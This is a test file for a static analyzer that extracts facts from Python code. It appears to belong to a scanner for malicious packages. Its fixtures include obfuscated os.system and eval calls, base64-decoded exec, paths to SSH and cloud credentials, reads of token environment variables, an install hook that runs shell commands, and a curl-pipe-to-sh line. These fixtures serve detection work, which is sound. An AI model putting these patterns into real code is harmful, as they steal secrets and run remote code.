import { describe, expect, test } from "bun:test";
import { globSource } from "../../src/core/glob.ts";
import { extractorArgv, runFactExtractor, type SpawnFunction, defaultSpawn } from "../../src/static/python/extractor.ts";
import type { CallFact, EnvFact, FileFacts, StringFact } from "../../src/static/python/facts.ts";

const EVERYTHING = { calls: [globSource("*", "name")], strings: null, attributes: [globSource("*", "name")], attributeLeaves: [globSource("*", "name")] };

async function factsOf(source: string, spawn?: SpawnFunction): Promise<FileFacts> {
  const run = await runFactExtractor([{ id: "f", path: "pkg/mod.py", bytes: new TextEncoder().encode(source) }], { python: "python3", interest: EVERYTHING, spawn });
  return run.files.get("f") as FileFacts;
}

const calls = (facts: FileFacts) => facts.facts.filter((f): f is CallFact => f.k === "call");
const namesAt = (facts: FileFacts, line: number) => calls(facts).filter((f) => f.line === line && !f.nested).flatMap((f) => f.names);
const strings = (facts: FileFacts) => facts.facts.filter((f): f is StringFact => f.k === "str");
const envs = (facts: FileFacts) => facts.facts.filter((f): f is EnvFact => f.k === "env");

describe("call name resolution", () => {
  test("aliases, from-imports, one-hop assignments, getattr, __import__ and importlib", async () => {
    const facts = await factsOf(
      [
        "import os, importlib",
        "import subprocess as sp",
        "from os import system as s",
        "f = os.system",
        "attr = 'sys' + 'tem'",
        "sp.Popen(['id'])",
        "s('a')",
        "f('b')",
        "getattr(os, attr)('c')",
        "__import__('os').system('d')",
        "importlib.import_module('subprocess').run(['e'])",
        "getattr(__import__('builtins'), 'ev' + 'al')('1')",
        "vars(os)['system']('g')",
      ].join("\n"),
    );
    expect(namesAt(facts, 6)).toEqual(["subprocess.Popen"]);
    expect(namesAt(facts, 7)).toEqual(["os.system"]);
    expect(namesAt(facts, 8)).toEqual(["os.system"]);
    expect(namesAt(facts, 9)).toContain("os.system");
    expect(namesAt(facts, 10)).toContain("os.system");
    expect(namesAt(facts, 11)).toContain("subprocess.run");
    expect(namesAt(facts, 12)).toContain("eval");
    expect(namesAt(facts, 13)).toContain("os.system");
  });

  test("star imports and alternative imports yield every candidate", async () => {
    const facts = await factsOf("from os import *\nsystem('x')\ntry:\n    import simplejson as json\nexcept ImportError:\n    import json\njson.dumps(1)\n");
    expect(namesAt(facts, 2)).toContain("os.system");
    expect(namesAt(facts, 7)).toEqual(["simplejson.dumps", "json.dumps"]);
  });

  test("keywords, constant arguments and the command of argv lists", async () => {
    const facts = await factsOf("import subprocess\nsubprocess.run(['curl', '-s', URL], shell=True, check=False)\n");
    const call = calls(facts).find((c) => c.names.includes("subprocess.run"));
    expect(call?.kw).toEqual({ shell: "True", check: "False" });
    expect(call?.args).toEqual(["curl", "-s"]);
    expect(call?.cmd).toBe("curl -s {}");
  });

  test("data flow: decoders feeding exec through variables and function returns", async () => {
    const facts = await factsOf("import base64\ndef load():\n    return base64.b64decode(DATA)\npayload = load()\nexec(payload)\n");
    const exec = calls(facts).find((c) => c.names.includes("exec"));
    expect(exec?.inputs).toContain("base64.b64decode");
  });

  test("code passed to exec as a constant is analysed as well", async () => {
    const facts = await factsOf("exec(\"import os\\nos.system('id')\")\n");
    const nested = calls(facts).find((c) => c.nested && c.names.includes("os.system"));
    expect(nested?.line).toBe(1);
    expect(nested?.args).toEqual(["id"]);
  });
});

describe("strings, paths and the environment", () => {
  test("path joins are rendered with ~ for the home folder", async () => {
    const facts = await factsOf(
      [
        "import os",
        "from pathlib import Path",
        "a = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')",
        "b = Path.home() / '.aws' / 'credentials'",
        "c = f\"{os.environ['HOME']}/.kube/config\"",
        "d = '%s/.docker/config.json' % home",
        "e = os.path.join(os.getenv('HOME'), '.git-credentials')",
      ].join("\n"),
    );
    const derived = strings(facts).filter((s) => s.derived).map((s) => [s.line, s.value]);
    expect(derived).toEqual(
      expect.arrayContaining([
        [3, "~/.ssh/id_rsa"],
        [4, "~/.aws/credentials"],
        [5, "~/.kube/config"],
        [6, "{}/.docker/config.json"],
        [7, "~/.git-credentials"],
      ]),
    );
  });

  test("encoded constants are decoded into string facts", async () => {
    const encoded = Buffer.from("~/.ssh/id_rsa").toString("base64");
    const facts = await factsOf(`import base64\np = base64.b64decode('${encoded}').decode()\nopen(p)\n`);
    const decoded = strings(facts).find((s) => s.value === "~/.ssh/id_rsa");
    expect(decoded?.used_by).toContain("open");
  });

  test("environment reads: subscripts, get, getenv, aliases, loops and whole-environment uses", async () => {
    const facts = await factsOf(
      [
        "import os, json",
        "from os import environ",
        "a = os.environ['AWS_SECRET_ACCESS_KEY']",
        "b = environ.get('GITHUB_TOKEN')",
        "c = os.getenv('NPM_TOKEN')",
        "e = os.environ",
        "d = e['PYPI_TOKEN']",
        "for k in ('X_TOKEN', 'Y_PASSWORD'):",
        "    os.environ.get(k)",
        "json.dumps(dict(os.environ))",
      ].join("\n"),
    );
    const vars = envs(facts).filter((e) => e.var !== null).map((e) => [e.line, e.var]);
    expect(vars).toEqual(
      expect.arrayContaining([[3, "AWS_SECRET_ACCESS_KEY"], [4, "GITHUB_TOKEN"], [5, "NPM_TOKEN"], [7, "PYPI_TOKEN"], [9, "X_TOKEN"], [9, "Y_PASSWORD"]]),
    );
    const whole = envs(facts).find((e) => e.var === null && e.line === 10);
    expect(whole?.used_by).toEqual(expect.arrayContaining(["dict", "json.dumps"]));
  });
});

describe("install-hook facts", () => {
  test("cmdclass overrides with the calls their run() makes", async () => {
    const facts = await factsOf(
      "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass I(install):\n    def run(self):\n        self.go()\n\n    def go(self):\n        os.system('id')\n\nsetup(cmdclass={'install': I})\n",
    );
    const overrides = facts.facts.filter((f) => f.k === "cmdclass");
    expect(overrides.map((f) => f.k === "cmdclass" && [f.command, f.cls, f.run_calls.includes("os.system")])).toEqual([["install", "I", true]]);
  });

  test("files executed by a file are reported", async () => {
    const facts = await factsOf("exec(open('pkg/version.py').read())\nimport runpy\nrunpy.run_path('tools/gen.py')\n");
    expect(facts.facts.filter((f) => f.k === "execfile").map((f) => f.k === "execfile" && f.path)).toEqual(["pkg/version.py", "tools/gen.py"]);
  });
});

describe("fallbacks and wrapping", () => {
  test("Python 2 code falls back to the regex pass and says so", async () => {
    const facts = await factsOf("import os\nprint 'installing'\nos.system('curl http://127.0.0.1:9/x | sh')\n");
    expect(facts.parse).toBe("regex-fallback");
    expect(facts.error).toContain("SyntaxError");
    expect(calls(facts).find((c) => c.names.includes("os.system"))?.line).toBe(3);
  });

  test("the command prefix and spawn function are used, so the sandbox can wrap the interpreter", async () => {
    const seen: string[][] = [];
    const spawn: SpawnFunction = (argv, stdin, timeout) => {
      seen.push(argv);
      return defaultSpawn(argv.slice(2), stdin, timeout);
    };
    const run = await runFactExtractor([{ id: "x", path: "x.py", bytes: new TextEncoder().encode("import os\nos.system('a')\n") }], {
      python: "python3", wrap: ["env", "--"], spawn, interest: EVERYTHING,
    });
    expect(seen.map((argv) => argv.slice(0, 7))).toEqual([["env", "--", "python3", "-I", "-S", "-B", "-c"]]);
    expect(extractorArgv("python3").slice(0, 5)).toEqual(["python3", "-I", "-S", "-B", "-c"]);
    expect(run.files.get("x")?.parse).toBe("ast");
  });

  test("a failing interpreter leaves every file to the regex pass, with a note", async () => {
    const spawn: SpawnFunction = async () => ({ exitCode: 1, stdout: "", stderr: "boom", timedOut: false });
    const run = await runFactExtractor([{ id: "x", path: "x.py", bytes: new TextEncoder().encode("import os\nos.system('a')\n") }], { python: "python3", spawn, interest: EVERYTHING });
    expect(run.files.get("x")?.parse).toBe("regex-fallback");
    expect(run.notes).toEqual(["python fact extractor exited with 1: boom; files without facts were scanned with the regex fallback"]);
  });
});
